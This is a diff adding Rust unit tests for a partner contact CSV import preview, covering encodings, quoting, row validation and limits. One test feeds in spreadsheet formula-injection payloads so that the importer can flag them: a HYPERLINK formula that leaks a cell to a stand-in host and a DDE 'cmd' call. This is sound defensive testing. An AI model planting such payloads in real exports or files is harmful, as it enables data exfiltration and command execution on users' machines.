@@ -1,0 +1,293 @@
+//! Partner CSV preview: encodings, CSV quoting, each row problem, hostile
+//! rows and the limits.
+
+use super::*;
+
+fn only_valid(p: &ImportPreview) -> Vec<(u32, &str, &str, Option<&str>)> {
+    assert_eq!(p.file_error, None, "{p:?}");
+    p.valid
+        .iter()
+        .map(|r| (r.row, r.name.as_str(), r.phone.as_str(), r.note.as_deref()))
+        .collect()
+}
+
+fn reasons(p: &ImportPreview) -> Vec<(u32, ImportReason, Option<ImportColumn>)> {
+    p.errors
+        .iter()
+        .map(|e| (e.row, e.reason, e.column))
+        .collect()
+}
+
+const SAMPLE: &str = "姓名,手机号,备注\n张三,13800138000,老客户\n李四,+86 139-0013-9000,\n";
+
+#[test]
+fn utf8_without_bom() {
+    let p = preview(SAMPLE.as_bytes());
+    assert_eq!(p.encoding, Some(ImportEncoding::Utf8));
+    assert_eq!(
+        only_valid(&p),
+        vec![
+            (2, "张三", "+8613800138000", Some("老客户")),
+            (3, "李四", "+8613900139000", None),
+        ]
+    );
+    assert_eq!(p.total_rows, 2);
+    assert!(p.ok_to_import());
+}
+
+#[test]
+fn utf8_with_bom_crlf_and_headers_in_any_order_and_case() {
+    let text = "\u{FEFF} Phone ,NAME,Note\r\n13800138000,Alice Wong,vip\r\n";
+    let p = preview(text.as_bytes());
+    assert_eq!(p.encoding, Some(ImportEncoding::Utf8Bom));
+    assert_eq!(
+        only_valid(&p),
+        vec![(2, "Alice Wong", "+8613800138000", Some("vip"))]
+    );
+}
+
+#[test]
+fn gbk_as_excel_in_china_writes_it() {
+    let text = "姓名,电话,备注\r\n王小明,13800138000,朋友介绍\r\n";
+    let (bytes, _, unmappable) = encoding_rs::GBK.encode(text);
+    assert!(!unmappable);
+    assert!(
+        std::str::from_utf8(&bytes).is_err(),
+        "the test must use non-UTF-8 bytes"
+    );
+    let p = preview(&bytes);
+    assert_eq!(p.encoding, Some(ImportEncoding::Gbk));
+    assert_eq!(
+        only_valid(&p),
+        vec![(2, "王小明", "+8613800138000", Some("朋友介绍"))]
+    );
+}
+
+#[test]
+fn utf16_unicode_text_with_tabs() {
+    let text = "姓名\t手机\n赵六\t13700137000\n";
+    let mut bytes = vec![0xFF, 0xFE];
+    bytes.extend(text.encode_utf16().flat_map(u16::to_le_bytes));
+    let p = preview(&bytes);
+    assert_eq!(p.encoding, Some(ImportEncoding::Utf16));
+    assert_eq!(only_valid(&p), vec![(2, "赵六", "+8613700137000", None)]);
+}
+
+#[test]
+fn quoted_fields_with_separators_quotes_and_line_breaks() {
+    let text = "name,phone,note\n\"王, 五\",\"138 0013 8001\",\"他说\"\"你好\"\"\n第二行\"\n陈七,13800138002,plain\n";
+    let p = preview(text.as_bytes());
+    // The quoted line break keeps the record on Excel's row 2; 陈七 is row 3.
+    assert_eq!(
+        only_valid(&p),
+        vec![
+            (2, "王, 五", "+8613800138001", Some("他说\"你好\" 第二行")),
+            (3, "陈七", "+8613800138002", Some("plain")),
+        ]
+    );
+}
+
+#[test]
+fn semicolons_blank_rows_and_row_numbers() {
+    let text = "姓名;手机\n\n甲;13800138000\n;\n乙;13800138001\n";
+    let p = preview(text.as_bytes());
+    // Blank rows are skipped but still count for the row numbers Excel shows.
+    assert_eq!(
+        only_valid(&p),
+        vec![
+            (3, "甲", "+8613800138000", None),
+            (5, "乙", "+8613800138001", None)
+        ]
+    );
+    assert_eq!(p.total_rows, 2);
+}
+
+#[test]
+fn each_row_problem_has_its_reason_and_row() {
+    let long_name = "长".repeat(MAX_NAME_CHARS + 1);
+    let text = format!(
+        "姓名,手机,备注\n\
+         好人,13800138000,\n\
+         坏号,12345,\n\
+         ,13800138001,\n\
+         没号,,\n\
+         重复,138 0013 8000,\n\
+         {long_name},13800138002,\n\
+         多列,13800138003,ok,extra\n\
+         空多列,13800138004,ok,,\n"
+    );
+    let p = preview(text.as_bytes());
+    assert_eq!(
+        reasons(&p),
+        vec![
+            (3, ImportReason::BadPhone, Some(ImportColumn::Phone)),
+            (4, ImportReason::MissingName, Some(ImportColumn::Name)),
+            (5, ImportReason::MissingPhone, Some(ImportColumn::Phone)),
+            (6, ImportReason::DuplicatePhone, Some(ImportColumn::Phone)),
+            (7, ImportReason::TooLong, Some(ImportColumn::Name)),
+            (8, ImportReason::TooManyColumns, None),
+        ]
+    );
+    let dup = &p.errors[3];
+    assert_eq!(
+        (dup.duplicate_of, dup.value.as_str()),
+        (Some(2), "+8613800138000")
+    );
+    assert_eq!(p.errors[0].value, "12345");
+    assert_eq!(p.errors[5].value, "extra");
+    // Empty cells past the header are what Excel writes: not an error.
+    assert_eq!(
+        only_valid(&p).iter().map(|r| r.0).collect::<Vec<_>>(),
+        vec![2, 9]
+    );
+    assert_eq!(p.total_rows, 8);
+    assert!(!p.ok_to_import());
+}
+
+#[test]
+fn formulas_are_flagged_not_imported() {
+    let text = "姓名,手机,备注\n\
+        \"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"点我\"\")\",13800138000,\n\
+        @SUM(1),13800138001,\n\
+        正常,=1+1,\n\
+        正常二,13800138002,+cmd|' /C calc'!A0\n\
+        正常三,13800138003,-2+3\n\
+        正常四,+86 13800138004,ok\n";
+    let p = preview(text.as_bytes());
+    assert_eq!(
+        reasons(&p),
+        vec![
+            (2, ImportReason::Formula, Some(ImportColumn::Name)),
+            (3, ImportReason::Formula, Some(ImportColumn::Name)),
+            (4, ImportReason::Formula, Some(ImportColumn::Phone)),
+            (5, ImportReason::Formula, Some(ImportColumn::Note)),
+            (6, ImportReason::Formula, Some(ImportColumn::Note)),
+        ]
+    );
+    assert!(p.errors[0].value.starts_with("=HYPERLINK("));
+    // A leading + is how phones are written, not a formula.
+    assert_eq!(
+        only_valid(&p),
+        vec![(7, "正常四", "+8613800138004", Some("ok"))]
+    );
+}
+
+#[test]
+fn control_and_invisible_characters_are_flagged_and_shown_safely() {
+    let text = "姓名,手机,备注\n\
+        响\u{7}铃,13800138000,\n\
+        \u{202E}反转,13800138001,\n\
+        零\u{200B}宽,13800138002,\n\
+        好,13800138003,\"多行\r\n备注\"\n\
+        \t制表\t,\t13800138004,\n\
+        坏备注,13800138005,a\u{1B}[31mb\n";
+    let p = preview(text.as_bytes());
+    assert_eq!(
+        reasons(&p),
+        vec![
+            (2, ImportReason::ControlCharacter, Some(ImportColumn::Name)),
+            (3, ImportReason::ControlCharacter, Some(ImportColumn::Name)),
+            (4, ImportReason::ControlCharacter, Some(ImportColumn::Name)),
+            (7, ImportReason::ControlCharacter, Some(ImportColumn::Note)),
+        ]
+    );
+    assert_eq!(p.errors[0].value, "响\u{FFFD}铃");
+    assert_eq!(p.errors[1].value, "\u{FFFD}反转");
+    // Line breaks in notes and tabs around cells (exports add them) are whitespace.
+    assert_eq!(
+        only_valid(&p),
+        vec![
+            (5, "好", "+8613800138003", Some("多行 备注")),
+            (6, "制表", "+8613800138004", None),
+        ]
+    );
+}
+
+#[test]
+fn full_width_digits_and_excel_apostrophe_are_phones() {
+    let text = "姓名,手机\n全角,１３８００１３８０００\n撇号,'13800138001\n";
+    let p = preview(text.as_bytes());
+    assert_eq!(
+        only_valid(&p),
+        vec![
+            (2, "全角", "+8613800138000", None),
+            (3, "撇号", "+8613800138001", None)
+        ]
+    );
+}
+
+fn rows(n: usize) -> Vec<u8> {
+    let mut text = String::from("姓名,手机\n");
+    for i in 0..n {
+        text.push_str(&format!("伙伴{i},138{i:08}\n"));
+    }
+    text.into_bytes()
+}
+
+#[test]
+fn ten_thousand_rows_pass_one_more_is_refused() {
+    let p = preview(&rows(MAX_ROWS));
+    assert_eq!(p.valid.len(), MAX_ROWS);
+    assert!(p.ok_to_import());
+    let p = preview(&rows(MAX_ROWS + 1));
+    assert_eq!(p.file_error, Some(ImportFileError::TooManyRows));
+    assert!(p.valid.is_empty() && p.errors.is_empty());
+}
+
+#[test]
+fn files_over_the_size_limit_are_refused() {
+    let mut bytes = b"name,phone,note\n".to_vec();
+    bytes.resize(MAX_BYTES + 1, b'x');
+    assert_eq!(preview(&bytes).file_error, Some(ImportFileError::TooLarge));
+}
+
+#[test]
+fn empty_header_only_and_headerless_files() {
+    for empty in [&b""[..], b"\xEF\xBB\xBF", b"\r\n\r\n", b" , ,\n"] {
+        let p = preview(empty);
+        assert_eq!(p.file_error, Some(ImportFileError::Empty), "{empty:?}");
+        assert!(!p.ok_to_import());
+    }
+    let p = preview("姓名,手机号\r\n".as_bytes());
+    assert_eq!(p.file_error, Some(ImportFileError::NoRows));
+    let p = preview("张三,13800138000\n".as_bytes());
+    assert_eq!(p.file_error, Some(ImportFileError::MissingHeader));
+    let p = preview("姓名,备注\n张三,x\n".as_bytes());
+    assert_eq!(p.file_error, Some(ImportFileError::MissingHeader));
+}
+
+#[test]
+fn workbooks_and_binary_are_not_csv() {
+    let p = preview(b"PK\x03\x04\x14\x00\x06\x00");
+    assert_eq!(p.file_error, Some(ImportFileError::Spreadsheet));
+    let p = preview(b"\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1");
+    assert_eq!(p.file_error, Some(ImportFileError::Spreadsheet));
+    let p = preview(b"name,phone\n\x00\x01\x02");
+    assert_eq!(p.file_error, Some(ImportFileError::NotText));
+    // Neither UTF-8 nor GBK (0xFF is never valid in GBK).
+    let p = preview(b"name,phone\n\xFF\xFF,1\n");
+    assert_eq!(p.file_error, Some(ImportFileError::NotText));
+}
+
+#[test]
+fn unterminated_quote_does_not_panic() {
+    let p = preview("姓名,手机\n\"张三,13800138000\n李四,13800138001\n".as_bytes());
+    // The open quote swallows the rest of the file into one name cell, line
+    // breaks included: no phone, and a name with control characters.
+    assert_eq!(
+        reasons(&p),
+        vec![
+            (2, ImportReason::ControlCharacter, Some(ImportColumn::Name)),
+            (2, ImportReason::MissingPhone, Some(ImportColumn::Phone)),
+        ]
+    );
+}
+
+#[test]
+fn serialized_as_the_ui_reads_it() {
+    let p = preview("姓名,手机\n张三,123\n".as_bytes());
+    let json = serde_json::to_value(&p).unwrap();
+    assert_eq!(json["encoding"], "utf8");
+    assert_eq!(json["errors"][0]["reason"], "bad_phone");
+    assert_eq!(json["errors"][0]["column"], "phone");
+}
